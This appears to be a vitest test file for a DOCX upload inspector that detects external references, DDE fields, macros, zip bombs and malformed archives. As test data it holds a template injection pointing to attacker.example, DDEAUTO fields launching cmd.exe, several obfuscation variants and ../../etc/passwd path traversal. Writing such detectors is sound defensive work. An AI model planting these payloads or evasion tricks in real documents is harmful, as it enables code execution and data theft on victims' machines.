import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { rawZip } from '../samples/archive.ts';
import {
  bodyDocx,
  contentTypes,
  docxWith,
  field,
  headerDocx,
  relationship,
  relationships,
} from '../samples/docx.ts';
import * as samples from '../samples/samples.ts';
import { inspectFile } from './inspect.ts';

const MIB = 1024 * 1024;
const inspect = (bytes: Uint8Array, maxUnpackedBytes = 100 * MIB) =>
  inspectFile(bytes, { expected: ['WORD'], maxBytes: 20 * MIB, maxUnpackedBytes });

const settings = (...inside: string[]) =>
  docxWith({ 'word/_rels/settings.xml.rels': relationships(...inside) });

// Read again and again from every place, so much would take minutes; read once, a blink.
const MANY = 120_000;
const HANGS = 20_000;

describe('FILE_EXTERNAL_REF', () => {
  it('an outside template, with where it points', async () => {
    expect(await inspect(samples.externalTemplateDocx())).toEqual({
      code: 'FILE_EXTERNAL_REF',
      facts: {
        part: 'word/_rels/settings.xml.rels',
        relation: 'attachedTemplate',
        target: 'https://attacker.example/t.dotm',
      },
    });
  });

  it.each(['oleObject', 'frame', 'image', 'subDocument', 'mailMergeSource'])(
    'an outside %s',
    async (type) => {
      const bytes = settings(relationship(type, 'file:///C:/x', 'External'));
      expect(await inspect(bytes)).toMatchObject({ code: 'FILE_EXTERNAL_REF', facts: { relation: type } });
    },
  );

  it.each([
    {
      title: 'a mode spelled with a character reference',
      inside: relationship('image', 'x', '&#x45;xternal'),
    },
    { title: 'single quotes', inside: relationship('image', 'x', 'External').replaceAll('"', "'") },
    { title: 'a prefix', inside: relationship('image', 'x', 'External').replace('<', '<p:') },
    { title: 'a greater-than sign before the mode', inside: relationship('image', 'a>b', 'External') },
    { title: 'a share that claims to be internal', inside: relationship('image', '\\\\host\\share') },
  ])('is seen through $title', async ({ inside }) => {
    expect(await inspect(settings(inside))).toMatchObject({ code: 'FILE_EXTERNAL_REF' });
  });

  it('is seen through UTF-16', async () => {
    const text = relationships(relationship('image', 'x', 'External')).replace('UTF-8', 'UTF-16');
    const part = Buffer.from(`\uFEFF${text}`, 'utf16le');
    expect(await inspect(docxWith({ 'word/_rels/a.xml.rels': part }))).toMatchObject({
      code: 'FILE_EXTERNAL_REF',
    });
  });

  it('a link to click and a picture inside are fine', async () => {
    const link = relationship('hyperlink', 'https://www.gov.cn/', 'External');
    expect(await inspect(settings(link, relationship('image', 'media/image1.png')))).toHaveProperty(
      'mediaType',
    );
  });
});

describe('FILE_EXTERNAL_REF by a field', () => {
  const DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';

  it.each([
    'DDE excel book.xlsx R1C1',
    DDE,
    'INCLUDETEXT "\\\\\\\\host\\\\share\\\\a.docx"',
    'INCLUDEPICTURE "http://host.example/a.png" \\d',
    'LINK Excel.Sheet.12 "C:\\\\a.xlsx" R1C1 \\a',
    'IMPORT "a.wmf"',
    'DATABASE \\d "C:\\\\a.mdb"',
  ])('%s', async (instruction) => {
    const [relation = ''] = instruction.split(' ');
    expect(await inspect(bodyDocx(field(instruction)))).toMatchObject({
      code: 'FILE_EXTERNAL_REF',
      facts: { part: 'word/document.xml', relation, target: instruction.slice(0, 200) },
    });
  });

  it.each([
    { title: 'cut into runs', bytes: bodyDocx(field('  D', 'DEAU', 'TO c:\\\\cmd.exe')) },
    { title: 'in small letters', bytes: bodyDocx(field('ddeauto c:\\\\cmd.exe')) },
    { title: 'in one attribute', bytes: bodyDocx('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>') },
    { title: 'by character references', bytes: bodyDocx(field('&#68;DE&#x41;UTO c:\\\\cmd.exe')) },
    { title: 'in an attribute by references', bytes: bodyDocx("<w:fldSimple w:instr='&#68;DEAUTO x'/>") },
    { title: 'in CDATA', bytes: bodyDocx(field('<![CDATA[DDE]]>AUTO c:\\\\cmd.exe')) },
    { title: 'around a comment', bytes: bodyDocx(field('DDE<!-- x -->AUTO c:\\\\cmd.exe')) },
    { title: 'around an instruction to programs', bytes: bodyDocx(field('DDE<?x y?>AUTO c:\\\\cmd.exe')) },
    {
      title: 'under another prefix',
      bytes: bodyDocx(field(DDE).replaceAll('<w:', '<x:').replaceAll('</w:', '</x:')),
    },
    { title: 'inside another field', bytes: bodyDocx(field('IF 1 = 1 ', field(DDE), ' "x"')) },
    { title: 'behind another field', bytes: bodyDocx(field('PAGE') + field(DDE)) },
    {
      title: 'without an end',
      bytes: bodyDocx(field(DDE).replace(/<w:r><w:fldChar w:fldCharType="end".*$/, '')),
    },
    { title: 'as deleted text', bytes: bodyDocx(field(DDE).replaceAll('instrText', 'delInstrText')) },
    { title: 'in a header', bytes: headerDocx(field(DDE)) },
  ])('is seen $title', async ({ bytes }) => {
    expect(await inspect(bytes)).toMatchObject({ code: 'FILE_EXTERNAL_REF' });
  });

  it.each([
    {
      title: 'page numbers, dates and tables of contents',
      runs: field('PAGE') + field('DATE \\@ "yyyy-MM-dd"') + field('TOC \\o "1-3" \\h'),
    },
    { title: 'a link to click', runs: field('HYPERLINK "https://www.gov.cn/"') },
    { title: 'words that only look like it', runs: '<w:r><w:t>DDEAUTO c:\\cmd.exe</w:t></w:r>' },
    { title: 'a field whose name begins alike', runs: field('LINKED x') },
  ])('$title are fine', async ({ runs }) => {
    expect(await inspect(bodyDocx(runs))).toHaveProperty('mediaType');
  });

  it('is not slowed down by hostile text', { timeout: HANGS }, async () => {
    const text = '<w:instrText '.repeat(MANY) + '<!--'.repeat(MANY) + '<![CDATA['.repeat(MANY);
    expect(await inspect(bodyDocx(text))).toBeDefined();
  });

  it('does not hide in a part that is no XML by its name', async () => {
    const bytes = docxWith({
      '[Content_Types].xml': contentTypes().replace('document.xml', 'document.dat'),
      '_rels/.rels': relationships(relationship('officeDocument', 'word/document.dat')),
      'word/document.dat': field(DDE),
    });
    expect(await inspect(bytes)).toMatchObject({ code: 'FILE_DAMAGED', facts: { reason: 'PART_NAME' } });
  });
});

describe('FILE_MACRO', () => {
  it.each([
    { title: 'a renamed .docm', bytes: samples.macroDocx() },
    { title: 'the macro part alone', bytes: docxWith({ 'word/vbaProject.bin': 'x' }) },
    { title: 'a macro part under another name', bytes: settings(relationship('vbaProject', 'a.bin')) },
    { title: 'an ActiveX control', bytes: settings(relationship('control', 'activeX1.xml')) },
    { title: 'a workbook with macros inside', bytes: docxWith({ 'word/embeddings/Sheet1.xlsm': 'x' }) },
    {
      title: 'a macro content type',
      bytes: docxWith({
        '[Content_Types].xml': contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
      }),
    },
  ])('$title', async ({ bytes }) => {
    expect(await inspect(bytes)).toMatchObject({ code: 'FILE_MACRO' });
  });
});

describe('FILE_ARCHIVE_BOMB', () => {
  it.each([
    { title: 'a gibibyte of zeros', bytes: samples.zipBombDocx(), reason: 'UNPACKED_SIZE' },
    { title: 'a gibibyte declared as 1 KB', bytes: samples.zipBombDocx(1000), reason: 'SIZE_LIES' },
    { title: 'a gibibyte declared as 50 MB', bytes: samples.zipBombDocx(50e6), reason: 'SIZE_LIES' },
  ])('$title', async ({ bytes, reason }) => {
    const before = process.memoryUsage().rss;
    expect(await inspect(bytes)).toMatchObject({ code: 'FILE_ARCHIVE_BOMB', facts: { reason } });
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * MIB);
  });

  it('1000 to 1 within the limit', async () => {
    const bytes = docxWith({ 'word/media/image1.bmp': new Uint8Array(10 * MIB) });
    expect(await inspect(bytes)).toMatchObject({ code: 'FILE_ARCHIVE_BOMB', facts: { reason: 'RATIO' } });
  });

  it('an entry hidden in the bytes of another', async () => {
    const inner = rawZip([{ name: 'b', packed: strToU8('x') }]).slice(0, 32);
    const bytes = rawZip([
      { name: 'a', packed: inner },
      { name: 'b', packed: strToU8('x'), headerAt: 31 },
    ]);
    expect(await inspect(bytes)).toMatchObject({ code: 'FILE_ARCHIVE_BOMB', facts: { reason: 'OVERLAP' } });
  });

  it('more entries than any document has', async () => {
    const many = Object.fromEntries(
      Array.from({ length: 4001 }, (_, index) => [`word/${index}.xml`, new Uint8Array()]),
    );
    expect(await inspect(zipSync(many))).toMatchObject({
      code: 'FILE_ARCHIVE_BOMB',
      facts: { reason: 'ENTRIES', seen: 4001, limit: 4000 },
    });
  });
});

describe('FILE_DAMAGED', () => {
  const flipped = () => {
    const bytes = docxWith({ 'word/media/a.bin': new Uint8Array(64).fill(7) });
    const at = Buffer.from(bytes).indexOf('word/media/a.bin') + 'word/media/a.bin'.length;
    bytes[at] = (bytes[at] ?? 0) ^ 0xff;
    return bytes;
  };

  it.each([
    { title: 'cut off', bytes: samples.truncatedDocx(), reason: 'TRUNCATED' },
    { title: 'with a flipped byte', bytes: flipped(), reason: 'PART_DATA' },
    {
      title: 'with a false checksum',
      bytes: rawZip([{ name: 'a', packed: strToU8('x'), checksum: 1 }]),
      reason: 'PART_DATA',
    },
    { title: 'without its main part', bytes: withoutMain(), reason: 'PART_MISSING' },
    { title: 'with an entry listed under two names', bytes: twoNames(), reason: 'PART_NAME' },
    {
      title: 'with a path out of the package',
      bytes: docxWith({ '../../etc/passwd': 'x' }),
      reason: 'PART_NAME',
    },
    { title: 'with an absolute path', bytes: docxWith({ '/etc/passwd': 'x' }), reason: 'PART_NAME' },
    { title: 'with two parts alike', bytes: docxWith({ 'WORD/document.xml': 'x' }), reason: 'PART_NAME' },
    {
      title: 'with a DTD',
      bytes: docxWith({ '_rels/.rels': '<!DOCTYPE x><Relationships/>' }),
      reason: 'XML',
    },
    {
      title: 'with another archive in front',
      bytes: Buffer.concat([samples.goodDocx(), samples.goodDocx()]),
      reason: 'DIRECTORY',
    },
  ])('$title', async ({ bytes, reason }) => {
    expect(await inspect(bytes)).toMatchObject({ code: 'FILE_DAMAGED', facts: { reason } });
  });

  it('is not slowed down by hostile relations', { timeout: HANGS }, async () => {
    const bytes = settings(`<Relationship ${'a'.repeat(MIB)}/>`, '<Relationship "'.repeat(MANY));
    expect(await inspect(bytes)).toBeDefined();
  });
});

describe('FILE_TYPE_MISMATCH', () => {
  const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
  const TEMPLATE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.template';

  it.each([
    { title: 'a plain archive', bytes: zipSync({ 'a.txt': strToU8('x') }), seen: 'application/zip' },
    {
      title: 'a workbook',
      bytes: docxWith({ '[Content_Types].xml': contentTypes(`${SHEET}.main+xml`) }),
      seen: SHEET,
    },
    {
      title: 'a Word template',
      bytes: docxWith({ '[Content_Types].xml': contentTypes(`${TEMPLATE}.main+xml`) }),
      seen: TEMPLATE,
    },
  ])('$title', async ({ bytes, seen }) => {
    expect(await inspect(bytes)).toMatchObject({
      code: 'FILE_TYPE_MISMATCH',
      facts: { expected: 'WORD', seen },
    });
  });
});

it('an encrypted part makes the archive encrypted', async () => {
  const bytes = rawZip([{ name: 'a', packed: strToU8('x'), flags: 1 }]);
  expect(await inspect(bytes)).toMatchObject({ code: 'FILE_ENCRYPTED' });
});

function twoNames() {
  const packed = strToU8('x');
  return rawZip([
    { name: 'a', packed },
    { name: 'b', packed, headerAt: 0 },
  ]);
}

function withoutMain() {
  return docxWith({
    '_rels/.rels': relationships(relationship('officeDocument', 'word/other.xml')),
    '[Content_Types].xml': contentTypes().replace('document.xml', 'other.xml'),
  });
}
